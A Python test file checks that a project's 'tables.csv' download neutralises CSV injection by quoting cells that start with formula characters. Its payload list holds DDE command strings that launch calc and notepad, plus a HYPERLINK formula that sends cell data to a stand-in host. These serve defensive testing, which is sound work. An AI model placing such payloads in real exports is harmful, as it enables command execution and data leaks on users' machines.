"""The tables download (``tables.csv``) holds no cell a spreadsheet would evaluate.

The class (OWASP's CSV injection): any cell of a table output, or the heading a table
sits under, that starts with a character a spreadsheet reads as the start of a formula
(``=``, ``+``, ``-``, ``@``, tab, carriage return), whatever follows (a function call, a
DDE command, a hyperlink, arithmetic), is written with a single quote in front, so it is
read as text and shows as it was; a cell that is a plain number in full (a negative
figure) stays a number (:func:`sidebyside.publish.downloads.neutralise` says so).
"""

from __future__ import annotations

import csv
import io

import pytest
from conftest import ROOT

from sidebyside import publish
from sidebyside.publish import downloads

PAYLOADS = ['1+1', 'HYPERLINK("http://example.invalid/?q="&A1,"click")', 'cmd|\' /C calc\'!A0', 'SUM(A1:A9)',
            '2+5+cmd|\' /C notepad\'!A0', '1-1', '"quoted, with a comma"', '=1', '\t=1', "'already"]
STARTS = list(downloads.FORMULA_STARTS)


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _evaluable(cell: str) -> bool:
    """Whether a spreadsheet could evaluate the cell: it starts with a formula character and is not a plain number."""
    return cell.startswith(downloads.FORMULA_STARTS) and not downloads._NUMBER.fullmatch(cell)


@pytest.mark.parametrize("start", STARTS, ids=repr)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_that_starts_a_formula_is_quoted_as_text(start, payload):
    cell = start + payload
    out = downloads.neutralise(cell)
    assert out == "'" + cell and not _evaluable(out)  # text, shown as it was after the quote


@pytest.mark.parametrize("number", ["-1", "-1.5", "+2", "-0.000123", "-2.5e-3", "+1E+10", "-.5", "-3.", "0", "12.5"])
def test_a_plain_number_stays_a_number(number):
    assert downloads.neutralise(number) == number


@pytest.mark.parametrize("text", ["-1+1", "-1.5 ms", "-inf", "-nan", "+-1", "--1", "-1e", "-", "+", "=", "@", "-1,5",
                                  "-1\n=2", "-0x10"])
def test_what_only_looks_like_a_number_is_quoted(text):
    assert downloads.neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["plain", "", " =1", "1-2", "x=1", "'", "é=1", "ms -1"])
def test_other_cells_are_kept(text):
    assert downloads.neutralise(text) == text


def _html_table(cells: list[str]) -> str:
    rows = "".join(f"<tr><th>{i}</th><td>{c}</td></tr>" for i, c in enumerate(cells))
    return f'<table class="dataframe"><thead><tr><th></th><th>value</th></tr></thead><tbody>{rows}</tbody></table>'


def test_the_tables_download_of_a_rendered_post_holds_no_formula():
    import html

    import nbformat
    from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

    cells = [start + payload for start in STARTS for payload in PAYLOADS] + ["-1.5", "+2", "ok"]
    nb = new_notebook(cells=[
        new_markdown_cell("## =HYPERLINK(\"http://example.invalid\")"),
        new_code_cell("table()", outputs=[new_output("display_data", data={
            "text/html": _html_table([html.escape(c) for c in cells]), "text/plain": "table"})]),
        new_markdown_cell("## -1+1 section"),
        new_code_cell("table()", outputs=[new_output("display_data", data={
            "text/html": _html_table(["@SUM(1)", "-7"]), "text/plain": "table"})]),
    ], metadata={"kernelspec": {"name": "python3", "display_name": "Python 3"}})
    info = publish.NotebookInfo(ROOT / "tests" / "fixtures" / "hostile" / "00_hostile.py", "hostile-output", "T",
                                "2026-11-01", "D", [])
    record = {"slug": "hostile-output", "profile": "smoke", "executed_at": "2026-11-22T00:00:00+00:00",
              "source_hash": "k", "provenance": {"device": "cpu", "git_sha": "abc"}, "metrics": {}}
    _, files = publish.render(nbformat.from_dict(nb), record, info, {"repository": "o/r"}, root=ROOT)
    rows = _rows(files["tables.csv"].decode())
    assert rows, files["tables.csv"]
    every = [value for row in rows for value in row.values()]
    assert not [value for value in every if _evaluable(value)], [v for v in every if _evaluable(v)]
    values = [row["value"] for row in rows if row["table"] == "1" and row["column"] == "1"][1:]
    assert len(values) == len(cells)
    quoted = 0
    for value, cell in zip(values[:-3], cells[:-3]):
        shown = " ".join(cell.split())  # as the table shows it (its reader folds white space)
        assert value == ("'" + shown if shown.startswith(downloads.FORMULA_STARTS) else shown), (value, cell)
        quoted += value.startswith("'")
    assert quoted >= len(PAYLOADS) * 4  # every payload behind =, +, - and @ at least
    assert values[-3:] == ["-1.5", "+2", "ok"]  # numbers stay numbers
    assert {row["section"] for row in rows} == {"'=HYPERLINK(\"http://example.invalid\")", "'-1+1 section"}
